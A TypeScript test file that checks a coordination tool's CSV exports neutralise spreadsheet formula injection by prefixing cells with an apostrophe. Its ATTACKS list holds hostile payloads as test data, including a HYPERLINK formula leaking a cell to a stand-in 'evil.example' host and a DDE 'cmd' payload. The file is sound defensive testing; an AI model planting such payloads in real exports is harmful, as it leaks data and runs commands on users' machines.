import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { afterEach, describe, expect, it } from "vitest";
import { spreadsheetCell } from "../../scripts/csv.ts";
import { writeEvaluation } from "../../scripts/export-evaluation.ts";
import { writeExport } from "../../scripts/export-workstream.ts";
import { createHarness, seedGroup } from "../helpers/harness.ts";

let h: ReturnType<typeof createHarness>;
let out: string;
afterEach(() => {
  h?.cleanup();
  if (out) rmSync(out, { recursive: true, force: true });
});

/**
 * A coordinator opens the export in Excel or LibreOffice. A cell a member wrote that starts with
 * `=`, `+`, `-`, `@` (or a tab or carriage return) would be run as a formula there: a
 * `=HYPERLINK(…)` sends what is beside it to someone else's server when clicked, and `=WEBSERVICE`
 * or DDE can do worse. Such a cell is written with a leading apostrophe, which spreadsheets read
 * as "this is text" and do not show; the words themselves are unchanged.
 */
const ATTACKS = [
  '=HYPERLINK("https://evil.example/?q="&A1,"Click for the minutes")',
  "+SUM(1,2)",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
];

describe("exports cannot smuggle a formula into a coordinator's spreadsheet", () => {
  it.each(ATTACKS)("a glossary entry, a parked item and a dissent beginning %j", async (attack) => {
    h = createHarness({ start: "2026-11-30T10:00:00Z" });
    await seedGroup(h);
    await h.say("chris", `/park ${attack.replace(/[\t\r]/g, "")} Room bookings`);
    await h.say("kim", `/dissent ${attack.replace(/[\t\r]/g, "")} carers were not asked`);
    // Straight into the table, as no command keeps a leading tab or carriage return.
    h.db
      .prepare(
        `INSERT INTO glossary_terms (workstream_id, term, meaning, added_by, updated_at)
         SELECT 1, ?, 'A word members asked about', id, ? FROM people WHERE key = 'test:cora'`,
      )
      .run(attack, Date.now());
    out = mkdtempSync(join(tmpdir(), "cp-formula-"));
    const files = [
      ...writeExport(h.db, "Medication safety", join(out, "w")),
      ...writeEvaluation(h.db, "Medication safety", join(out, "e")),
    ];
    const cells = files
      .filter((f) => f.endsWith(".csv"))
      .flatMap((f) => (parse(readFileSync(f, "utf8"), { relax_column_count: true }) as string[][]).flat());
    const written = cells.filter((cell) => cell.includes(attack.trim().slice(1, 8)));
    expect(written.length).toBeGreaterThan(0);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const cell of written) expect(cell.startsWith("'")).toBe(true);
  });

  it("leaves plain numbers alone, negative ones too, and text that only contains the signs", async () => {
    h = createHarness({ start: "2026-11-30T10:00:00Z" });
    await seedGroup(h);
    await h.say("chris", "/park Budget: 2+2=4 @ the board Room bookings");
    out = mkdtempSync(join(tmpdir(), "cp-formula-"));
    const files = writeExport(h.db, "Medication safety", out);
    const text = files
      .filter((f) => f.endsWith(".csv"))
      .map((f) => readFileSync(f, "utf8"))
      .join("\n");
    expect(text).toContain("Budget: 2+2=4 @ the board");
    expect(text).not.toContain("'Budget");
    expect(["-3", "+4", "12.5", "2026-12-01", "—"].map(spreadsheetCell)).toEqual([
      "-3",
      "+4",
      "12.5",
      "2026-12-01",
      "—",
    ]);
    expect(["-3 days", "=1", "@x"].map(spreadsheetCell)).toEqual(["'-3 days", "'=1", "'@x"]);
  });
});
